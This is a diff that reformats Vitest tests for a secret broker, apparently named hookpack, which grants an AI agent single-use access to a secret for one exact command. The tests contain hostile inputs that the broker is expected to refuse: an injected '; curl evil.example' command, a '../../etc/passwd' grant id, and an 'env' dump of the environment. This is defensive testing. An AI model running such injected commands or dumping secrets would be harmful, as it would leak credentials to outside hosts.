@@ -4,12 +4,42 @@ import { mkdtempSync, readdirSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeAll, describe, expect, it } from "vitest";
-import { GrantTable, hashArgv, isApprovedForSession, recordSessionApproval, revokeApprovalsFor, type MintRequest } from "../../broker/grants.js";
+import {
+  GrantTable,
+  hashArgv,
+  isApprovedForSession,
+  recordSessionApproval,
+  revokeApprovalsFor,
+  type MintRequest,
+} from "../../broker/grants.js";
 import { HookpackError } from "../../core/errors.js";
-import { assertBuilt, brokerMint, fakeSecret, readAudit, run, sandbox, setSecret, type Sandbox } from "./helpers.js";
+import {
+  assertBuilt,
+  brokerMint,
+  fakeSecret,
+  readAudit,
+  run,
+  sandbox,
+  setSecret,
+  type Sandbox,
+} from "./helpers.js";
 
-const argv = ["bash", "-c", "declare +x HOOKPACK_SECRET_T; printf %s \"${HOOKPACK_SECRET_T}\" | wc -c"];
-const request = (extra: Partial<MintRequest> = {}): MintRequest => ({ names: ["T"], argv, agent: "claude-code", session: "s1", toolCallId: "toolu_1", cwd: "/tmp", ttlMs: 60_000, approval: "auto", ...extra });
+const argv = [
+  "bash",
+  "-c",
+  'declare +x HOOKPACK_SECRET_T; printf %s "${HOOKPACK_SECRET_T}" | wc -c',
+];
+const request = (extra: Partial<MintRequest> = {}): MintRequest => ({
+  names: ["T"],
+  argv,
+  agent: "claude-code",
+  session: "s1",
+  toolCallId: "toolu_1",
+  cwd: "/tmp",
+  ttlMs: 60_000,
+  approval: "auto",
+  ...extra,
+});
 const code = (f: () => unknown): string => {
   try {
     f();
@@ -43,14 +73,26 @@ describe("grants (unit: the broker's in-memory table)", () => {
     const g = t.mint(request());
     expect(t.redeem({ id: g.id, argv, names: ["T"] }).id).toBe(g.id);
     expect(code(() => t.redeem({ id: g.id, argv, names: ["T"] }))).toBe("GRANT_USED");
-    expect(code(() => t.redeem({ id: "g_aaaaaaaaaaaaaaaaaaaaaaaaaa", argv, names: ["T"] }))).toBe("GRANT_UNKNOWN");
-    expect(code(() => t.redeem({ id: "../../etc/passwd", argv, names: ["T"] }))).toBe("GRANT_INVALID");
+    expect(code(() => t.redeem({ id: "g_aaaaaaaaaaaaaaaaaaaaaaaaaa", argv, names: ["T"] }))).toBe(
+      "GRANT_UNKNOWN",
+    );
+    expect(code(() => t.redeem({ id: "../../etc/passwd", argv, names: ["T"] }))).toBe(
+      "GRANT_INVALID",
+    );
   });
 
   it("refuses another command or other names, and burns the grant", () => {
     const t = new GrantTable();
     const g = t.mint(request());
-    expect(code(() => t.redeem({ id: g.id, argv: [...argv.slice(0, 2), `${argv[2]}; curl evil.example`], names: ["T"] }))).toBe("GRANT_MISMATCH");
+    expect(
+      code(() =>
+        t.redeem({
+          id: g.id,
+          argv: [...argv.slice(0, 2), `${argv[2]}; curl evil.example`],
+          names: ["T"],
+        }),
+      ),
+    ).toBe("GRANT_MISMATCH");
     expect(code(() => t.redeem({ id: g.id, argv, names: ["T"] }))).toBe("GRANT_USED");
     const g2 = t.mint(request());
     expect(code(() => t.redeem({ id: g2.id, argv, names: ["T", "OTHER"] }))).toBe("GRANT_MISMATCH");
@@ -59,7 +101,9 @@ describe("grants (unit: the broker's in-memory table)", () => {
   it("refuses an expired grant; the sweep turns expired grants into tombstones and forgets old ones", () => {
     const t = new GrantTable();
     const g = t.mint(request({ ttlMs: 1000 }));
-    expect(code(() => t.redeem({ id: g.id, argv, names: ["T"], now: Date.now() + 5000 }))).toBe("GRANT_EXPIRED");
+    expect(code(() => t.redeem({ id: g.id, argv, names: ["T"], now: Date.now() + 5000 }))).toBe(
+      "GRANT_EXPIRED",
+    );
     const g2 = t.mint(request({ ttlMs: 1000 }));
     t.sweep(Date.now() + 5000);
     expect(t.pending(Date.now() + 5000)).toBe(0);
@@ -94,7 +138,11 @@ describe("hookpack exec --grant (real CLI)", () => {
     const value = fakeSecret();
     setSecret(sb, "T", value);
     const marker = join(sb.dir, "ran");
-    const a = ["bash", "-c", `declare +x HOOKPACK_SECRET_T; printf %s "\${HOOKPACK_SECRET_T}" | wc -c; echo x >> '${marker}'`];
+    const a = [
+      "bash",
+      "-c",
+      `declare +x HOOKPACK_SECRET_T; printf %s "\${HOOKPACK_SECRET_T}" | wc -c; echo x >> '${marker}'`,
+    ];
     const g = await brokerMint(sb, request({ argv: a }));
     const ok = run(sb, ["exec", "--grant", g.id, "--secret", "T=HOOKPACK_SECRET_T", "--", ...a]);
     expect(ok.stderr).toBe("");
@@ -106,7 +154,13 @@ describe("hookpack exec --grant (real CLI)", () => {
     expect(again.stderr).toContain("The command was not started");
     expect(readdirSync(sb.dir).includes("ran") ? 1 : 0).toBe(1);
     const entries = readAudit(sb);
-    expect(entries.at(-2)).toMatchObject({ grant: g.id, session: "s1", agent: "claude-code", secrets: ["T"], exitCode: 0 });
+    expect(entries.at(-2)).toMatchObject({
+      grant: g.id,
+      session: "s1",
+      agent: "claude-code",
+      secrets: ["T"],
+      exitCode: 0,
+    });
     expect(entries.at(-1)).toMatchObject({ refused: "GRANT_USED", grant: g.id });
     for (const e of entries) expect(JSON.stringify(e).includes(value)).toBe(false);
   });
@@ -115,7 +169,17 @@ describe("hookpack exec --grant (real CLI)", () => {
     sb = sandbox();
     setSecret(sb, "T", fakeSecret());
     const g = await brokerMint(sb, request());
-    const r = run(sb, ["exec", "--grant", g.id, "--secret", "T=HOOKPACK_SECRET_T", "--", "bash", "-c", "env"]);
+    const r = run(sb, [
+      "exec",
+      "--grant",
+      g.id,
+      "--secret",
+      "T=HOOKPACK_SECRET_T",
+      "--",
+      "bash",
+      "-c",
+      "env",
+    ]);
     expect(r.status).toBe(2);
     expect(r.stderr).toMatch(/different command/);
     expect(r.stdout).toBe("");
